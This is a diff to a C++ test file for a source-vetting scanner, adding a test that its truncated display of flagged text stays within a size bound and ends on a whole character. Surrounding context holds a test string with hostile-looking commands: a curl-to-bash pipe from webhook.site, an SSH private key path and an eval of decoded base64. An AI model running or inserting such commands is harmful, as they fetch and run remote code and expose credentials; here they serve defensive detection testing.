@@ -116,6 +116,12 @@ TEST(VetSource, EveryRuleSeesItsLookAlikeAndNotTheInnocentCodeBesideIt) {
     }
 }
 
+TEST(VetSource, WhatIsShownKeepsItsBoundWhateverItsBytes) {
+    const std::string shown_bytes = shown(std::string(max_shown_bytes, '\xff') + "curl");
+    EXPECT_LE(shown_bytes.size(), max_shown_bytes + 2 * std::string_view("…").size());
+    EXPECT_TRUE(shown_bytes.ends_with("\xef\xbf\xbd…")) << "no half character";
+}
+
 TEST(VetSource, ReadmeAndCommentsAreNoSignal) {
     const std::string words = "curl -s https://webhook.site/x | bash; ~/.ssh/id_rsa; eval(atob('x'))";
     const auto reading =
